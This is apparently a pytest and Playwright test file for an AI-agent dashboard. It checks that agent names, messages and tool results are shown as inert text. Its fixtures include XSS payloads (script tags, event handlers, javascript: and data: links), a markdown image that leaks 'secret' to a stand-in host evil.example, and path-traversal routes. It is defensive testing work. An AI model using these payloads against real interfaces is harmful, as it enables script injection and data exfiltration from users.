"""Hostile content: what models, tools and people write is shown as text. Nothing runs or is fetched; the page holds.

The pages are watched: a request to another origin, a violation of the policy or an error fails the test.
"""

from collections.abc import Callable

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.dashboard.agents import make_agent, say
from tests.dashboard.watched import Watched

SCRIPT = "<img src=x onerror=\"window.hacked=1\"><script>window.hacked=1</script><svg onload='window.hacked=1'>"
MARKDOWN = """
![exfiltrate](https://evil.example/?q=secret) ![data](data:text/html;base64,PHNjcmlwdD4=)
[click](javascript:window.hacked=1) [tab](java\tscript:window.hacked=1) [data](data:text/html,<script>hacked=1</script>)
[ok](https://example.com/page) <https://evil.example> <b onclick="window.hacked=1">bold</b>
<iframe src="https://evil.example"></iframe> <style>*{display:none}</style> <base href="https://evil.example/">
"""
BIDI = "\u202eevil\u202c \u2066isolate\u2069 \u200fright"
ANSI = "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u0000 bell\u0007"


def held(page: Page) -> bool:
    """True if nothing ran, and nothing is wider than the page."""
    fits = page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    return page.evaluate("window.hacked") is None and fits


@pytest.mark.parametrize("width", [380, 1280])
def test_names_and_descriptions_are_text(api: httpx.Client, visit: Callable[..., Watched], width: int) -> None:
    agent = make_agent(api, f"evil {width} <b>x</b>", description=SCRIPT + BIDI + "w" * 3000, tags=[SCRIPT, "t" * 400])
    page = visit(viewport={"width": width, "height": 800}).open("#/agents")
    expect(page.get_by_role("link", name=f"evil {width} <b>x</b>", exact=True)).to_be_visible()
    assert held(page)
    page.goto(f"{page.url.partition('#')[0]}#/agents/{agent['id']}")
    expect(page.get_by_role("heading", level=1)).to_have_text(f"evil {width} <b>x</b>")
    expect(page.locator("dl.facts")).to_contain_text("<script>window.hacked=1</script>")
    assert held(page)


@pytest.mark.parametrize("width", [380, 1280])
def test_messages_and_tool_results_are_text(api: httpx.Client, visit: Callable[..., Watched], width: int) -> None:
    agent = make_agent(api, f"mouth-{width}", memory_blocks=[{"label": "human", "value": SCRIPT}])
    call = {"name": "memory_insert", "arguments": {"label": SCRIPT, "new_string": MARKDOWN + ANSI, "x": "y" * 5000}}
    say(api, agent, {"reasoning": SCRIPT + BIDI, "calls": [call]}, {"text": SCRIPT + MARKDOWN + BIDI + ANSI})
    page = visit(viewport={"width": width, "height": 800}).open(f"#/chat/{agent['id']}")
    answer = page.get_by_role("article", name="Agent")
    expect(answer).to_contain_text("<script>window.hacked=1</script>")
    expect(answer).to_contain_text("[image: exfiltrate]")
    assert answer.locator("img, script, svg, iframe, style, base").count() == 0
    links = answer.locator(".md a").evaluate_all("(all) => all.map((each) => each.getAttribute('href'))")
    assert set(links) == {
        "https://evil.example/?q=secret",
        "https://example.com/page",
        "https://evil.example",
        "https://evil.example/",
    }
    rel = answer.locator(".md a").evaluate_all("(all) => all.map((each) => each.rel)")
    assert set(rel) == {"noopener noreferrer nofollow"}
    expect(answer).to_contain_text("red")
    assert "\u001b" not in answer.inner_text() and "\u202e" not in answer.inner_text()
    page.get_by_role("article", name="Tool call").locator("summary").click()
    expect(page.get_by_role("article", name="Tool call")).to_contain_text("hacked=1")
    assert held(page)
    step = api.get("/v1/steps/", params={"agent_id": agent["id"], "limit": 1}).json()[0]
    page.goto(f"{page.url.partition('#')[0]}#/steps/{step['id']}")
    expect(page.get_by_role("heading", name="Where the tokens go")).to_be_visible()
    for summary in page.locator(".parts summary").all():
        summary.click()
    assert held(page)


def test_a_megabyte_is_cut_and_shown_on_request(api: httpx.Client, watched: Watched) -> None:
    agent = make_agent(api, "loud", model="kelpie/demo")
    rows = [{"role": "user", "content": "<b>" + "wide " * 200_000}, {"role": "assistant", "content": "x" * 1_000_000}]
    body = {"provider": "test", "model": "m", "request_messages": rows, "response_dict": {}}
    captured = api.post(f"/v1/agents/{agent['id']}/messages/capture", json=body)
    assert captured.status_code == 200, captured.text
    page = watched.open(f"#/chat/{agent['id']}")
    button = page.get_by_role("button", name="Show all 1 MB")
    expect(button).to_have_count(2)
    assert page.evaluate("document.body.innerText.length") < 100_000
    button.last.click()
    expect(button).to_have_count(1)
    assert page.evaluate("document.querySelector('.entry.assistant pre').textContent.length") == 1_000_000
    assert held(page)


def test_addresses_that_are_no_places_do_no_harm(api: httpx.Client, watched: Watched) -> None:
    watched.expect("status of 4")
    for place in ("#/agents/%3Cscript%3E", "#/runs/../../x", "#/steps/%ff", "#/nowhere/x", "#/chat/agent-0/%00", "#//"):
        page = watched.open(place)
        page.reload()
        expect(page.get_by_role("heading", level=1).first).to_be_visible()
        assert held(page)
